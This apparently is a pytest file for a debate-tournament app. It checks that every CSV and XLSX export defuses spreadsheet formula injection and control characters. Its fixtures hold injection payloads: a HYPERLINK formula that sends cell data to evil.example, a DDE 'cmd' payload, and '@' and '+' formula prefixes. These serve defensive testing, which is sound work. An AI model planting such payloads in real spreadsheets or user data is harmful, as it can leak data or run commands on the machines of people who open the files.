"""Issue 17 items 3 and 12: no download of the app carries a live spreadsheet formula or a
character that breaks a workbook, whatever names and client_ids a tournament holds.

Every CSV/XLSX route of the url_map is listed here (a new one fails test_every_download_route_is_checked
until it is added), and each is fetched for a tournament whose names, client_ids, appeal text and
tournament name start with =, +, -, @, a tab or a carriage return, or hold a control character."""
import csv
import io
import random
import re
import zipfile
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook

from debate.core.extensions import db
from debate.models import Adjudicator, Appeal, Ballot, Round, School, Speaker, Team, Tournament, TournamentMember
from debate.services.spreadsheet import FORMULA_START

from .flow import run_prelim_round, setup_tournament

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
        "=1+1\x07bell", "Ok\x01name"]


def _visible(text):
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)


@pytest.fixture
def evil(app, api, client, login):
    t, keys = setup_tournament(api, teams_per_league=8, adjudicators=4, rooms=4, settings={"panel_size": 1},
                               leagues=("kk",))
    run_prelim_round(api, client, t, keys, random.Random(5))
    uid = login()
    with app.app_context():
        db.session.add(TournamentMember(user_id=uid, tournament_id=t["id"], role="director"))
        tour = db.session.get(Tournament, t["id"])
        tour.name = EVIL[0]
        teams = db.session.query(Team).filter_by(tournament_id=t["id"]).order_by(Team.id).all()
        for i, team in enumerate(teams):
            team.name = EVIL[i % len(EVIL)] + f" {i}" if i else EVIL[0]
        for i, s in enumerate(db.session.query(School).filter_by(tournament_id=t["id"]).all()):
            s.name = EVIL[(i + 1) % len(EVIL)]
        for i, sp in enumerate(db.session.query(Speaker).join(Team).filter(Team.tournament_id == t["id"]).all()):
            sp.name = EVIL[i % len(EVIL)] + f" s{i}"
        for i, a in enumerate(db.session.query(Adjudicator).filter_by(tournament_id=t["id"]).all()):
            a.name = EVIL[(i + 3) % len(EVIL)] + f" a{i}"
        for i, b in enumerate(db.session.query(Ballot).all()):
            b.client_id = EVIL[i % len(EVIL)][:40] + f"#{i}"
        rnd = db.session.query(Round).filter_by(tournament_id=t["id"]).first()
        db.session.add(Appeal(tournament_id=t["id"], round_id=rnd.id, team_id=teams[0].id, text="=cmd|' /C calc'!A0",
                              filed_at=datetime.now(timezone.utc), status="pending", decision="@evil\x02"))
        db.session.commit()
    return t


def _routes(tid, lid):
    """{endpoint: [urls]} for every download."""
    return {
        "exports.download": [f"/t/{tid}/export/{w}.{f}" + (f"?league={lid}" if lg else "")
                             for w in ("standings", "speakers", "results", "ballots") for f in ("csv", "xlsx")
                             for lg in (False, True)],
        "appeals.appeals_csv": [f"/t/{tid}/appeals.csv"],
        "reports.report_xlsx": [f"/t/{tid}/reports/{s}.xlsx" for s in ("tournament", "season")],
        "participants.import_template": [f"/t/{tid}/import/template/{k}.{f}" for k in ("teams", "adjudicators", "rooms")
                                         for f in ("csv", "xlsx")],
    }


def test_every_download_route_is_checked(app):
    downloads = {r.endpoint for r in app.url_map.iter_rules()
                 if re.search(r"\.(csv|xlsx)|<fmt>|\bfmt\)|/export/", r.rule)
                 and not r.rule.endswith(".json")}  # the whole-tournament backup is JSON, not a spreadsheet
    checked = set(_routes(1, 1))
    assert downloads - checked == set(), "a download route is not checked for formula injection"


def _is_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


def _check_csv(data: bytes):
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    for c in cells:
        assert not (c.startswith(FORMULA_START) and not _is_number(c)), f"live formula in CSV: {c!r}"
        assert _visible(c) == c, f"control character in CSV: {c!r}"
    return cells


def _check_xlsx(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), "formula element in XLSX"
    wb = load_workbook(io.BytesIO(data))
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"formula cell {c.coordinate}: {c.value!r}"
                if isinstance(c.value, str) and c.value.startswith(FORMULA_START):
                    assert c.quotePrefix, f"text {c.value!r} at {c.coordinate} is not quote-prefixed"
                cells.append(c.value)
    return cells


def test_every_download_neutralises_formulas_and_keeps_the_text(app, client, evil):
    tid, lid = evil["id"], evil["leagues"][0]["id"]
    seen = {}
    for endpoint, urls in _routes(tid, lid).items():
        for url in urls:
            r = client.get(url)
            assert r.status_code == 200, (url, r.status_code)
            cells = _check_csv(r.data) if ".csv" in url else _check_xlsx(r.data)
            seen[url] = cells
    # the visible text is kept: the CSV prefixes an apostrophe, the XLSX shows the text as typed
    standings_csv = seen[f"/t/{tid}/export/standings.csv"]
    assert "'" + EVIL[0] in standings_csv
    assert EVIL[0] in seen[f"/t/{tid}/export/standings.xlsx"]
    assert "'=1+1bell 6" in standings_csv  # control character dropped, formula neutralised
    ballots_xlsx = seen[f"/t/{tid}/export/ballots.xlsx"]
    assert "@SUM(1,2)#3" in ballots_xlsx
    assert "'@SUM(1,2)#3" in seen[f"/t/{tid}/export/ballots.csv"]
    assert "'=cmd|' /C calc'!A0" in seen[f"/t/{tid}/appeals.csv"]
    assert EVIL[0] in seen[f"/t/{tid}/reports/tournament.xlsx"]


def test_negative_numbers_stay_numbers(app, client, evil):
    tid = evil["id"]
    wb = load_workbook(io.BytesIO(client.get(f"/t/{tid}/export/results.xlsx").data))
    margins = [row[9] for row in wb.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(m, (int, float)) for m in margins if m is not None)
